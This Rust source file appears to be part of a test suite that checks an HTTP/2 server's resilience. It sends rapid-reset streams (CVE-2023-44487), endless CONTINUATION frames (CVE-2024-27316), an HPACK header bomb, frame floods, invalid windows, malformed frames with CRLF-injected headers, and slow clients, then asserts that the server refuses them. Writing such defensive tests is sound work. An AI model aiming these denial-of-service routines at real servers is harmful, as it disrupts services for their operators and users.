//! What HTTP/2 makes possible: floods of frames that cost a client nothing, headers that unfold, windows that never open.

use std::time::{Duration, Instant};

use anyhow::{Context as _, ensure};

use super::{Attack, Target};
use crate::DEADLINE;
use crate::http2::{
    ACK, END_HEADERS, END_STREAM, Http2, PREFACE, block, frame, frame_of_length, integer, kind, request, settings,
};

pub(super) const ALL: &[Attack] = &[
    Attack::new("h2-rapid-reset", &[], rapid_reset),
    Attack::new("h2-continuation", &[], continuation),
    Attack::new("h2-headers", &[], headers),
    Attack::new("h2-floods", &[], floods),
    Attack::new("h2-windows", &[], windows),
    Attack::new("h2-never-reads", &["--writeTimeout=600ms"], never_reads),
    Attack::new("h2-malformed", &[], malformed),
    Attack::new("h2-slow", &["--headerTimeout=600ms", "--idleTimeout=600ms", "--bodyTimeout=600ms"], slow),
];

const INITIAL_WINDOW: u16 = 4;
const NO_ERROR: u32 = 0;
const ENHANCE_YOUR_CALM: u32 = 11;

/// Streams that are opened and reset at once, as many as the server takes (CVE-2023-44487).
fn rapid_reset(target: &Target) -> anyhow::Result<String> {
    let count = target.count(2000, 100_000);
    let mut connection = Http2::open(target.server.address(), &[])?;
    let head = block(&request("GET", "/"));
    let mut sent = 0;
    for index in 0..count {
        let stream = index as u32 * 2 + 1;
        let open = frame(kind::HEADERS, END_HEADERS | END_STREAM, stream, &head);
        if connection.write(&[open, frame(kind::RST_STREAM, 0, stream, &[0, 0, 0, 8])].concat()).is_err() {
            break;
        }
        sent += 1;
    }
    let meanwhile = target.ask()?;
    let error = connection.end()?;
    ensure!(error == Some(ENHANCE_YOUR_CALM) || error.is_none(), "the connection ended with {error:?}");
    Ok(format!("closed while {sent} of {count} streams were sent, a normal client meanwhile {meanwhile:.1?}"))
}

/// A head that goes on and on (CVE-2024-27316).
fn continuation(target: &Target) -> anyhow::Result<String> {
    let count = target.count(2, 50);
    let mut most = 0;
    for _ in 0..count {
        let mut connection = Http2::open(target.server.address(), &[])?;
        connection.write(&frame(kind::HEADERS, END_STREAM, 1, &block(&request("GET", "/"))))?;
        let more = frame(kind::CONTINUATION, 0, 1, &block(&[("x", &"y".repeat(1000))]));
        let mut sent = 0;
        while connection.write(&more).is_ok() {
            sent += more.len();
            ensure!(sent < 100 << 20, "a head without end is read for ever");
        }
        most = most.max(sent);
    }
    // Empty ones have no size that grows.
    let mut connection = Http2::open(target.server.address(), &[])?;
    connection.write(&frame(kind::HEADERS, END_STREAM, 1, &block(&request("GET", "/"))))?;
    let empty = frame(kind::CONTINUATION, 0, 1, b"").repeat(1000);
    let mut frames = 0;
    while connection.write(&empty).is_ok() {
        frames += 1000;
        ensure!(frames < 10_000_000, "empty continuations are read for ever");
    }
    Ok(format!("{count} heads without end: closed after at most {} KiB; {frames} empty frames", most >> 10))
}

/// Headers that are large, many, or unfold to much.
fn headers(target: &Target) -> anyhow::Result<String> {
    let address = target.server.address();
    // One of 3,000 bytes is put into the table and then named 5,000 times, one byte each.
    let mut bomb = block(&request("GET", "/"));
    bomb.push(0x40);
    integer(&mut bomb, 0, 7, 1);
    bomb.push(b'x');
    integer(&mut bomb, 0, 7, 3000);
    bomb.extend([b'y'; 3000]);
    bomb.extend([0x80 | 62; 5000]);
    let many: Vec<(String, String)> = (0..2000).map(|index| (format!("x-{index}"), "y".to_owned())).collect();
    let many: Vec<(&str, &str)> = many.iter().map(|(name, value)| (name.as_str(), value.as_str())).collect();
    let count = target.count(3, 500);
    for (what, fields) in [
        ("a table that unfolds to 15 MB", bomb),
        ("one of 100 KB", [block(&request("GET", "/")), block(&[("x", &"y".repeat(100_000))])].concat()),
        ("2,000 of them", [block(&request("GET", "/")), block(&many)].concat()),
    ] {
        for _ in 0..count {
            let mut connection = Http2::open(address, &[])?;
            let mut pieces = fields.chunks(16_000).peekable();
            let mut wire = frame(kind::HEADERS, END_STREAM, 1, pieces.next().unwrap_or_default());
            while let Some(piece) = pieces.next() {
                let flags = if pieces.peek().is_none() { END_HEADERS } else { 0 };
                wire.extend(frame(kind::CONTINUATION, flags, 1, piece));
            }
            if fields.len() <= 16_000 {
                wire[4] |= END_HEADERS;
            }
            let _ = connection.write(&wire);
            let end = connection.wait_for("the refusal", |frame| frame.status().or(frame.error().map(|_| 0)));
            ensure!(end.as_ref().is_ok_and(|status| matches!(status, 0 | 431)), "{what}: {end:?}");
        }
    }
    // What no table says.
    for (what, bad) in [
        ("an index beyond the table", vec![0xff, 0xff, 0xff, 0x7f]),
        ("index 0", vec![0x80]),
        ("an integer without end", vec![0xff; 100]),
        ("a text longer than the block", vec![0, 0x7f, 0xff, 0xff, 0x03]),
        ("a table of 4 GiB", vec![0x3f, 0xe1, 0xff, 0xff, 0xff, 0x0f]),
    ] {
        let mut connection = Http2::open(address, &[])?;
        connection.write(&frame(kind::HEADERS, END_HEADERS | END_STREAM, 1, &bad))?;
        let error = connection.end()?;
        ensure!(error.is_some_and(|error| error != NO_ERROR), "{what}: the connection ended with {error:?}");
    }
    Ok(format!("{count} times three heads that are too large: refused; five that cannot be decoded: closed"))
}

/// Frames that cost the client little and want an answer, or none.
fn floods(target: &Target) -> anyhow::Result<String> {
    let count = target.count(20_000, 1_000_000);
    let mut told = Vec::new();
    let reset = frame(kind::RST_STREAM, 0, 1, &[0, 0, 0, 8]);
    for (what, first, one) in [
        ("PING", Vec::new(), frame(kind::PING, 0, 0, b"12345678")),
        ("SETTINGS", Vec::new(), settings(&[(3, 100)])),
        ("ACK of SETTINGS", Vec::new(), frame(kind::SETTINGS, ACK, 0, b"")),
        ("WINDOW_UPDATE", Vec::new(), frame(kind::WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1])),
        ("PRIORITY", Vec::new(), frame(kind::PRIORITY, 0, 5, &[0, 0, 0, 0, 1])),
        ("RST_STREAM", frame(kind::HEADERS, END_HEADERS | END_STREAM, 1, &block(&request("GET", "/"))), reset),
        (
            "empty DATA",
            frame(kind::HEADERS, END_HEADERS, 1, &block(&request("POST", "/"))),
            frame(kind::DATA, 0, 1, b""),
        ),
        ("unknown frames", Vec::new(), frame(77, 0, 0, b"what")),
    ] {
        let mut connection = Http2::open(target.server.address(), &[])?;
        connection.write(&first)?;
        let many = one.repeat(1000);
        let mut sent = 0;
        // Until the server closes, or takes no more since its answers are not read, or there were enough.
        while sent < count && connection.write(&many).is_ok() {
            sent += 1000;
        }
        let meanwhile = target.ask().with_context(|| format!("in a flood of {what}"))?;
        told.push(format!("{sent} {what} {meanwhile:.1?}"));
    }
    Ok(format!("frames of each kind, and how long a normal client waited: {}", told.join(", ")))
}

/// Windows that are changed in ways that are not allowed.
fn windows(target: &Target) -> anyhow::Result<String> {
    let most = (u32::MAX >> 1).to_be_bytes();
    let stream = frame(kind::HEADERS, END_HEADERS | END_STREAM, 1, &block(&request("POST", "/")));
    let open = frame(kind::HEADERS, END_HEADERS, 1, &block(&request("POST", "/")));
    for (what, wire) in [
        ("more by nothing", frame(kind::WINDOW_UPDATE, 0, 0, &[0; 4])),
        ("more than there can be", frame(kind::WINDOW_UPDATE, 0, 0, &most)),
        ("a setting that is too large", settings(&[(INITIAL_WINDOW, u32::MAX)])),
        ("a stream's by nothing", [open.clone(), frame(kind::WINDOW_UPDATE, 0, 1, &[0; 4])].concat()),
        ("a stream's too large", [open, frame(kind::WINDOW_UPDATE, 0, 1, &most)].concat()),
        ("an update of three bytes", frame(kind::WINDOW_UPDATE, 0, 0, &[0; 3])),
        ("a stream that nobody opened", frame(kind::WINDOW_UPDATE, 0, 9, &[0, 0, 0, 1])),
    ] {
        let mut connection = Http2::open(target.server.address(), &[])?;
        connection.write(&wire)?;
        let error = connection.wait_for("an error", crate::http2::Frame::error).with_context(|| what.to_owned())?;
        ensure!(error != NO_ERROR, "{what}: no error");
    }
    // A window that shrinks to less than nothing and grows again, in the midst of an answer.
    let mut connection = Http2::open(target.server.address(), &[(INITIAL_WINDOW, 1000)])?;
    connection.write(&stream)?;
    ensure!(connection.status(1)? == 200, "an answer within a small window");
    for size in (0..200).rev() {
        connection.write(&settings(&[(INITIAL_WINDOW, size)]))?;
    }
    connection.get(3, "/")?;
    ensure!(connection.status(3)? == 200, "an answer after the window shrank");
    Ok("seven wrong windows: an error each; one that shrinks: answered".to_owned())
}

/// Answers for which there is no window.
fn never_reads(target: &Target) -> anyhow::Result<String> {
    let count = target.count(3, 100);
    let address = target.server.address();
    let mut crowd = Vec::new();
    for index in 0..count {
        // No window, a window of one byte, and one that the first answers fill.
        let window = [0, 1, 60_000][index % 3];
        let mut connection = Http2::open(address, &[(INITIAL_WINDOW, window)])?;
        for stream in 0..50 {
            let large = stream % 10 == 9;
            connection.post(stream * 2 + 1, "/", if large { b"1" } else { b"x" })?;
        }
        crowd.push(connection);
    }
    let begin = Instant::now();
    let mut slowest = Duration::ZERO;
    // Those with a window may be left: where there was no room for their answers, they have read why.
    let without = (0..count).filter(|index| index % 3 < 2).count() as u64;
    let closed = || anyhow::Ok(target.closed("write")? + target.closed("buffer")?);
    while closed()? < without || target.metric("capsule_buffered_bytes")? > 1 << 20 {
        slowest = slowest.max(target.ask_again()?);
        ensure!(begin.elapsed() < DEADLINE, "{} of {without} are closed", closed()?);
    }
    let closed = closed()?;
    drop(crowd);
    Ok(format!(
        "{count} connections with 50 answers each that they give no window for: {closed} closed, nothing is held, a normal \
         client {slowest:.1?}"
    ))
}

/// What is no request, or no frame.
fn malformed(target: &Target) -> anyhow::Result<String> {
    let head = |fields: &[(&str, &str)]| frame(kind::HEADERS, END_HEADERS | END_STREAM, 1, &block(fields));
    let with = |more: &[(&str, &str)]| head(&[&request("GET", "/")[..], more].concat());
    let get = with(&[]);
    let cases: Vec<(&str, Vec<u8>)> = vec![
        ("a name in capitals", with(&[("X-Y", "z")])),
        ("a line break in a value", with(&[("x", "y\r\nz: a")])),
        ("a line break in a name", with(&[("x\r\ny", "z")])),
        ("a colon in a name", with(&[("x:y", "z")])),
        ("transfer-encoding", with(&[("transfer-encoding", "chunked")])),
        ("connection", with(&[("connection", "keep-alive")])),
        ("te", with(&[("te", "gzip")])),
        ("no path", head(&request("GET", "/")[..3])),
        ("no method", head(&request("GET", "/")[1..])),
        ("an empty path", head(&request("GET", ""))),
        ("a path with a line break", head(&request("GET", "/ HTTP/1.1\r\nx: y"))),
        ("a method with a blank", head(&request("GET /x", "/"))),
        ("two paths", with(&[(":path", "/other")])),
        ("a pseudo-header that nobody knows", with(&[(":evil", "x")])),
        ("a pseudo-header of an answer", with(&[(":status", "200")])),
        ("a pseudo-header behind others", with(&[("x", "y"), (":method", "GET")])),
        ("two lengths", with(&[("content-length", "1"), ("content-length", "2")])),
        ("a body longer than its length", {
            let fields = [&request("POST", "/")[..], &[("content-length", "1")]].concat();
            [frame(kind::HEADERS, END_HEADERS, 1, &block(&fields)), frame(kind::DATA, END_STREAM, 1, b"xx")].concat()
        }),
        ("a body shorter than its length", {
            let fields = [&request("POST", "/")[..], &[("content-length", "9")]].concat();
            [frame(kind::HEADERS, END_HEADERS, 1, &block(&fields)), frame(kind::DATA, END_STREAM, 1, b"x")].concat()
        }),
        ("an even stream", frame(kind::HEADERS, END_HEADERS | END_STREAM, 2, &block(&request("GET", "/")))),
        ("a head on the connection", frame(kind::HEADERS, END_HEADERS | END_STREAM, 0, &block(&request("GET", "/")))),
        ("data on the connection", frame(kind::DATA, END_STREAM, 0, b"x")),
        ("data on a stream that nobody opened", frame(kind::DATA, END_STREAM, 7, b"x")),
        ("a continuation of nothing", frame(kind::CONTINUATION, END_HEADERS, 1, b"")),
        ("a frame within a head", [frame(kind::HEADERS, 0, 1, &block(&request("GET", "/"))), get.clone()].concat()),
        ("a promise of a client", frame(kind::PUSH_PROMISE, END_HEADERS, 1, &[0, 0, 0, 2])),
        ("padding longer than its frame", frame(kind::DATA | kind::HEADERS, 8 | END_HEADERS, 1, &[200, 0])),
        ("a frame larger than allowed", frame_of_length(1 << 20, kind::DATA, 0, 1, &[0; 1000])),
        ("settings of five bytes", frame(kind::SETTINGS, 0, 0, &[0; 5])),
        ("settings of a stream", frame(kind::SETTINGS, 0, 1, b"")),
        ("a ping of seven bytes", frame(kind::PING, 0, 0, &[0; 7])),
        ("a reset of a stream that nobody opened", frame(kind::RST_STREAM, 0, 9, &[0; 4])),
        ("a stream that depends on itself", frame(kind::PRIORITY, 0, 1, &[0, 0, 0, 1, 0])),
        ("frames of HTTP/1", b"GET / HTTP/1.1\r\nHost: h\r\n\r\n".to_vec()),
    ];
    for (what, wire) in &cases {
        let mut connection = Http2::open(target.server.address(), &[])?;
        connection.write(wire)?;
        // The end of what the client says: a ping that is answered when the connection lives on.
        let _ = connection.write(&frame(kind::PING, 0, 0, b"theend!!"));
        let mut answers = Vec::new();
        // What follows the answer to the ping comes soon, or not at all.
        while let Ok(Some(frame)) = connection.read_frame() {
            answers.extend(frame.status().map(|status| format!("status {status}")));
            answers.extend(frame.error().map(|error| format!("error {error}")));
            if frame.kind == kind::PING && frame.flags == ACK {
                connection.stream().set_read_timeout(Some(Duration::from_millis(100)))?;
            }
        }
        ensure!(!answers.contains(&"status 200".to_owned()), "{what}: answered as a request: {answers:?}");
    }
    // A preface that is none.
    for end in [&PREFACE[..20], b"PRI * HTTP/2.0\r\n\r\nXX\r\n\r\n", b"PRI * HTTP/1.1\r\n\r\n"] {
        let mut connection = Http2::open_raw(target.server.address())?;
        connection.write(end)?;
        let _ = connection.write(b"\r\n\r\n");
        if end.len() < PREFACE.len() {
            let _ = connection.write(b"garbage\r\n\r\n");
        }
        let text = super::rest(connection.stream())?;
        ensure!(!text.contains(" 200 "), "a broken preface is answered with `{text}`");
    }
    Ok(format!("{} malformed requests and frames: none answered as a request", cases.len()))
}

/// Clients of HTTP/2 that are slow: they have the same times.
fn slow(target: &Target) -> anyhow::Result<String> {
    let address = target.server.address();
    let count = target.count(5, 1000);
    let mut heads = Vec::new();
    for _ in 0..count {
        let mut connection = Http2::open(address, &[])?;
        // Half a head, which never ends.
        connection.write(&frame(kind::HEADERS, END_STREAM, 1, &block(&request("GET", "/"))))?;
        heads.push(connection);
    }
    let mut bodies = Vec::new();
    for _ in 0..count {
        let mut connection = Http2::open(address, &[])?;
        let open = frame(kind::HEADERS, END_HEADERS, 1, &block(&request("POST", "/")));
        connection.write(&[open, frame(kind::DATA, 0, 1, b"x")].concat())?;
        bodies.push(connection);
    }
    let meanwhile = target.ask()?;
    for mut connection in bodies {
        ensure!(connection.status(1)? == 408, "a body that stops is not refused");
    }
    for mut connection in heads {
        connection.end().context("half a head")?;
    }
    Ok(format!("{count} heads and {count} bodies that stop: closed and 408, a normal client meanwhile {meanwhile:.1?}"))
}
